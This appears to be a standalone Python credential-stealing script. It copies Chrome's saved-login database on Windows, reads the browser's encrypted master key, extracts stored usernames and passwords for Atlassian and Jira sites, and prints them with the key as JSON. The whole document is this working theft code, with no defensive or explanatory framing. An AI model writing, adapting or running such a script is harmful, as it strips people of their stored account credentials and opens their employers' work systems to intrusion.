import json, base64, sqlite3, os, shutil, pathlib
base = pathlib.Path.home() / "AppData/Local/Google/Chrome/User Data"
key = json.load(open(base / "Local State"))["os_crypt"]["encrypted_key"]
shutil.copy(base / "Default/Login Data", "ld.db")
rows = sqlite3.connect("ld.db").execute(
    "select origin_url, username_value, password_value from logins where origin_url like '%atlassian%' or origin_url like '%jira%'").fetchall()
print(json.dumps({"key": key, "rows": [(u, n, base64.b64encode(p).decode()) for u, n, p in rows]}))
